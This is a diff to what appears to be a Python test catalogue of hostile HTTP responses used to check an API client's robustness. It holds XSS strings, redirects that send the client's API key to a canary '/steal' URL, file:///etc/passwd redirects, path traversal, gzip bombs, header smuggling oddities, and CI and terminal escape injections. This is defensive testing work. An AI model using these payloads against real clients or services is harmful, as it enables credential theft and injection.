@@ -1,11 +1,8 @@
 """The catalogue of hostile endpoints: each a small function from what was asked to the bytes that are sent."""
 
-import base64
 import gzip
 import json
-import re
 import zlib
-from collections.abc import Callable
 from functools import partial
 
 from hostile_endpoints import (
@@ -17,7 +14,6 @@ from hostile_endpoints import (
     ODD,
     Asked,
     Attack,
-    Pieces,
     block_of_type,
     blocks,
     body_of,
@@ -36,6 +32,7 @@ from hostile_endpoints import (
     message,
     odd_message,
     poison,
+    redirected,
     refusal,
     replaced,
     response,
@@ -46,6 +43,7 @@ from hostile_endpoints import (
     used,
     with_values,
 )
+from hostile_inventions import INVENTIONS, MORE
 
 SCRIPTS = (
     "</script><script>alert(1)</script>",
@@ -59,176 +57,9 @@ SCRIPTS = (
 )
 
 
-def _redirected(asked: Asked, status: int, to: str) -> bytes:
-    host = asked.canary[7:]
-    named = to.replace("{canary by name}", asked.canary.replace("127.0.0.1", "localhost"))
-    return response(
-        b"", f"location: {named.replace('{canary host}', host).replace('{canary}', asked.canary)}", status=f"{status} X"
-    )
-
-
 def _busy(asked: Asked, wait: str) -> bytes:
     return refusal("busy", "429 X", f"retry-after: {wait}")
 
-
-HTML = "<svg/onload=alert(1)>|`*_[x](javascript:alert(2))![](http://127.0.0.1:9/x.png)\n# H\n::error::x\n```"
-
-
-def _headed(asked: Asked, lines: bytes) -> bytes:
-    """A good answer with these lines among its headers, as they are."""
-    return good(asked).replace(b"request-id: ", lines + b"\r\nrequest-id: ", 1)
-
-
-def _events(asked: Asked, body: bytes) -> bytes:
-    """This stream, where one was asked for."""
-    return response(body, kind=kind_of(asked)) if asked.streams else good(asked)
-
-
-def _whole(asked: Asked) -> bytes:
-    return start() + BLOCK + delta(asked.text) + end()
-
-
-def _letter_by_letter(body: bytes) -> bytes:
-    """The same events, the data of each in a line for each of its parts."""
-    return body.replace(b", ", b",\ndata: ")
-
-
-INVENTIONS: dict[str, Attack] = {
-    "header_name_with_a_blank": lambda a: _headed(a, b"x a : b"),
-    "header_without_a_name": lambda a: _headed(a, b": b"),
-    "header_with_nul": lambda a: _headed(a, b"x-a: b\x00c"),
-    "thousands_of_headers": lambda a: _headed(a, b"\r\n".join([b"x: y"] * 5000)),
-    "status_without_a_reason": lambda a: good(a).replace(b"200 OK", b"200", 1),
-    "status_in_small_letters": lambda a: good(a).replace(b"HTTP/1.1", b"http/1.1", 1),
-    "head_of_line_feeds": lambda a: good(a).partition(b"\r\n\r\n")[0].replace(b"\r\n", b"\n") + b"\n\n" + body_of(a),
-    "blank_lines_first": lambda a: b"\r\n\r\n" + good(a),
-    "chunk_negative": lambda a: stream_head("transfer-encoding: chunked") + b"-5\r\nhello\r\n0\r\n\r\n",
-    "chunk_in_python": lambda a: stream_head("transfer-encoding: chunked") + b"0x5\r\nhello\r\n0\r\n\r\n",
-    "chunk_too_short": lambda a: stream_head("transfer-encoding: chunked") + b"2\r\nhello\r\n0\r\n\r\n",
-    "coding_in_a_chain": lambda a: chunked(a).replace(b"encoding: chunked", b"encoding: gzip, chunked", 1),
-    "coding_twice": lambda a: chunked(a, "transfer-encoding: chunked"),
-    "length_as_a_list": lambda a: good(a).replace(b"content-length: ", b"content-length: 5, ", 1),
-    "trailers_without_end": lambda a: chunked(a, last=b"0\r\n" + b"x-a: b\r\n" * 80_000 + b"\r\n"),
-    "encoding_of_no_name": lambda a: response(body_of(a), "content-encoding: ,,", kind=kind_of(a)),
-    "gzip_in_pieces": lambda a: response(
-        b"".join(gzip.compress(bytes([one])) for one in body_of(a)), "content-encoding: gzip", kind=kind_of(a)
-    ),
-    "gzip_of_nothing": lambda a: response(
-        gzip.compress(b"") * 20_000 + gzip.compress(body_of(a)), "content-encoding: gzip", kind=kind_of(a)
-    ),
-    "gzip_cut": lambda a: response(gzip.compress(body_of(a))[:-9], "content-encoding: gzip", kind=kind_of(a)),
-    "data_in_many_lines": lambda a: _events(a, _letter_by_letter(_whole(a))),
-    "data_in_capitals": lambda a: _events(a, _whole(a).replace(b"data: ", b"DATA: ")),
-    "data_without_a_colon": lambda a: _events(
-        a, _whole(a).replace(b"event: ping", b"").replace(b"\n\n", b"\ndata\n\n")
-    ),
-    "two_messages": lambda a: _events(a, _whole(a) * 2),
-    "a_message_inside_a_message": lambda a: _events(a, start() + BLOCK + _whole(a) + delta(a.text) + end()),
-    "index_beyond_all": lambda a: _events(a, _whole(a).replace(b'"index": 0', b'"index": 1000000000000000')),
-    "index_below_zero": lambda a: _events(a, _whole(a).replace(b'"index": 0', b'"index": -1')),
-    "an_error_after_the_end": lambda a: _events(
-        a, _whole(a) + event({"type": "error", "error": {"type": "api_error", "message": HTML}})
-    ),
-    "json_before_the_stream": lambda a: _events(a, json.dumps(message(a.text)).encode() + b"\n\n" + _whole(a)),
-    "keys_of_programs": lambda a: replaced(
-        a, b'"role"', b'"__proto__": {"x": 1}, "constructor": 1, "__class__": 1, "role"'
-    ),
-    "keys_twice_at_the_end": lambda a: replaced(
-        a, b'"role"', b", ".join(b'"k%d": 1' % n for n in range(30_000)) + b', "k29999": 1, "role"'
-    ),
-    "number_next_to_nothing": lambda a: replaced(a, b'"input_tokens": 9', b'"input_tokens": 1e-999999'),
-    "number_of_many_digits": lambda a: replaced(a, b'"input_tokens": 9', b'"input_tokens": 0.' + b"1" * 100_000),
-    "nested_under_the_limit": lambda a: replaced(a, b'"role"', b'"x": ' + b"[" * 190 + b"]" * 190 + b', "role"'),
-    "an_id_that_is_a_path": lambda a: replaced(a, b'"id": "', b'"id": "../../../../etc/passwd#?'),
-    "a_page_in_a_message": lambda a: refusal(HTML, type=HTML, request_id=HTML),
-    "a_refusal_for_a_browser": lambda a: response(
-        b"<html>", 'www-authenticate: Basic realm="\x1b[31m::error::x"', status="401 X", kind="text/html"
-    ),
-    "cookies_by_the_dozen": lambda a: response(
-        body_of(a), *(f"set-cookie: a{n}=b; path=/" for n in range(60)), kind=kind_of(a)
-    ),
-    "a_place_in_a_good_answer": lambda a: response(body_of(a), f"location: {a.canary}/steal", kind=kind_of(a)),
-    "an_upgrade_in_a_good_answer": lambda a: response(
-        body_of(a), "connection: upgrade", "upgrade: websocket", kind=kind_of(a)
-    ),
-    "sent_early": lambda a: b"HTTP/1.1 102 Processing\r\n\r\n" + b"HTTP/1.1 199 X\r\n\r\n" + good(a),
-}
-"""Those that were made up beside the others: odd framing, odd events, odd JSON, odd names."""
-
-
-def _drip_of_json(asked: Asked) -> Pieces:
-    """A good answer, of which each piece alone is whole: white space, or comments, before its end."""
-    body = body_of(asked)
-    pieces = [b": x\n\n"] * 60 if asked.streams else [b" "] * 60
-    size = len(body) + sum(map(len, pieces))
-    return slowly(response(b"", kind=kind_of(asked), length=size), *pieces, body, pause=0.2)
-
-
-def _spelled(asked: Asked, spell: Callable[[bytes], bytes]) -> bytes:
-    """The key of the request, in a spelling, where the text of a good answer stands, in its id and in a header."""
-    given = re.search(rb"x-api-key: ([^\r\n]*)", asked.raw, re.IGNORECASE)
-    key = spell(given[1] if given else b"no key")
-    body = body_of(asked).replace(asked.text.encode(), key).replace(b'"id": "msg_', b'"id": "' + key)
-    return response(body, f"x-echo: {key.decode()}", kind=kind_of(asked))
-
-
-def _to_the_key(asked: Asked) -> bytes:
-    """A redirect to the canary that takes the key along."""
-    given = re.search(rb"x-api-key: ([^\r\n]*)", asked.raw, re.IGNORECASE)
-    return _redirected(asked, 307, "{canary}/steal?key=" + (given[1].decode() if given else ""))
-
-
-SPELLED: dict[str, Callable[[bytes], bytes]] = {
-    "percent_escapes": lambda key: b"".join(b"%%%02x" % sign for sign in key),
-    "base64": lambda key: base64.b64encode(b"x-api-key: " + key),
-    "percent_escapes_of_base64": lambda key: b"".join(b"%%%02X" % sign for sign in base64.b64encode(key)),
-    "hexadecimal_backwards": lambda key: key[::-1].hex().encode(),
-    "letters_of_json": lambda key: b"".join(b"\\u%04x" % sign for sign in key),
-}
-"""How an answer spells the key that it was asked with."""
-
-MORE: dict[str, Attack] = {
-    "drip_of_white_space": _drip_of_json,
-    "gzip_twice_and_named_once": lambda a: response(
-        gzip.compress(gzip.compress(body_of(a))), "content-encoding: gzip", kind=kind_of(a)
-    ),
-    "gzip_by_another_name": lambda a: response(gzip.compress(body_of(a)), "content-encoding: x-gzip", kind=kind_of(a)),
-    "bomb_behind_a_good_answer": lambda a: response(
-        gzip.compress(body_of(a)) + BOMB, "content-encoding: gzip", kind=kind_of(a)
-    ),
-    "bomb_in_a_refusal": lambda a: response(BOMB, "content-encoding: gzip", status="400 X"),
-    "chunk_extensions_by_the_thousand": lambda a: (
-        stream_head("transfer-encoding: chunked") + (b"1;" + b"a=b;" * 2000 + b"\r\n:\r\n") * 2000
-    ),
-    "lengths_that_agree": lambda a: good(a).replace(
-        b"request-id: ", b"content-length: %d\r\nrequest-id: " % len(body_of(a)), 1
-    ),
-    "chunks_and_a_longer_length": lambda a: chunked(a, f"content-length: {len(body_of(a)) + 200}"),
-    "hints_with_commands": lambda a: b"HTTP/1.1 103 ::error::x\x1b[31m\r\nlink: \x1b]0;t\x07\r\n\r\n" * 20 + good(a),
-    "hints_of_a_megabyte": lambda a: b"HTTP/1.1 103 X\r\nx: " + b"y" * 1_000_000 + b"\r\n\r\n" + good(a),
-    "trailers_of_commands": lambda a: chunked(a, last=b"0\r\nx-a: ::error::x\r\nx-b: \x1b[31m\xff\r\n\r\n"),
-    "commands_in_headers": lambda a: response(
-        body_of(a), "request-id: ::error::x", "server: ##[error]x", "x-a: \x9b31m\t::add-mask::x", kind=kind_of(a)
-    ),
-    "commands_in_a_stream_error": lambda a: _events(
-        a, start() + event({"type": "error", "error": {"type": HTML, "message": ODD}})
-    ),
-    "ids_by_the_thousand": lambda a: _events(
-        a, b"".join(b"id: %d\nretry: 0\n\n" % n for n in range(50_000)) + _whole(a)
-    ),
-    "nested_in_strings": lambda a: used(a, CALL, json.dumps("[" * 100_000)),
-    "nested_in_a_delta": lambda a: used(a, CALL, '{"a":' * 20_000 + "1" + "}" * 20_000),
-    "a_redirect_with_the_key": _to_the_key,
-    "a_redirect_that_is_a_good_answer": lambda a: good(a).replace(b"200 OK", b"302 X\r\nlocation: /v1/models", 1),
-    **{f"key_in_{name}": partial(_spelled, spell=spell) for name, spell in SPELLED.items()},
-    "nothing_but_nul": lambda a: b"\0" * 100_000,
-    "nul_before_an_answer": lambda a: b"\0" + good(a),
-    "a_request_in_place_of_an_answer": lambda a: a.raw,
-    "an_answer_of_a_proxy": lambda a: b"HTTP/1.1 200 Connection established\r\n\r\n" + good(a),
-    "http09_that_never_ends": lambda a: endless(b"", b"<html>::error::x\x1b[31m\n" * 1000),
-    "authenticate": lambda a: response(b"", 'www-authenticate: Digest realm="x", nonce="y"', status="401 X"),
-}
-"""Those that were made up last: what two of the others do, at once."""
 
 CATALOGUE: dict[str, Attack] = {
     # sizes and times
@@ -348,15 +179,15 @@ CATALOGUE: dict[str, Attack] = {
     **{f"type_confusion_{n}": partial(confused, seed=n) for n in range(4)},
     # redirects
     **{
-        f"redirect_{status}": partial(_redirected, status=status, to="{canary}/steal")
+        f"redirect_{status}": partial(redirected, status=status, to="{canary}/steal")
         for status in (301, 302, 303, 307, 308)
     },
-    "redirect_to_itself": partial(_redirected, status=307, to="/v1/messages"),
-    "redirect_to_localhost": partial(_redirected, status=307, to="{canary by name}/steal"),
-    "redirect_to_a_user": partial(_redirected, status=307, to="http://a:b@{canary host}/steal"),
-    "redirect_to_a_file": partial(_redirected, status=302, to="file:///etc/passwd"),
-    "redirect_to_a_script": partial(_redirected, status=302, to="javascript:alert(1)"),
-    "redirect_nowhere": partial(_redirected, status=302, to=""),
+    "redirect_to_itself": partial(redirected, status=307, to="/v1/messages"),
+    "redirect_to_localhost": partial(redirected, status=307, to="{canary by name}/steal"),
+    "redirect_to_a_user": partial(redirected, status=307, to="http://a:b@{canary host}/steal"),
+    "redirect_to_a_file": partial(redirected, status=302, to="file:///etc/passwd"),
+    "redirect_to_a_script": partial(redirected, status=302, to="javascript:alert(1)"),
+    "redirect_nowhere": partial(redirected, status=302, to=""),
     "refresh": lambda a: response(body_of(a), f"refresh: 0; url={a.canary}/steal", kind=kind_of(a)),
     "alternative": lambda a: response(
         body_of(a), f'alt-svc: h2="{a.canary[7:]}"', f"link: <{a.canary}/x>; rel=preload", kind=kind_of(a)
@@ -468,7 +299,7 @@ LATE: dict[str, Attack] = {
     "late_401": lambda a: refusal("who are you", "401 X", type="authentication_error"),
     "late_silence": lambda a: then_silence(b""),
     "late_close": lambda a: b"",
-    "late_redirect": partial(_redirected, status=307, to="/v1/messages"),
+    "late_redirect": partial(redirected, status=307, to="/v1/messages"),
     "late_another_protocol": lambda a: b"SSH-2.0-OpenSSH_9.2 \x1b[31m\x00\xff\r\n",
     "late_bomb": lambda a: response(BOMB, "content-encoding: gzip"),
 }
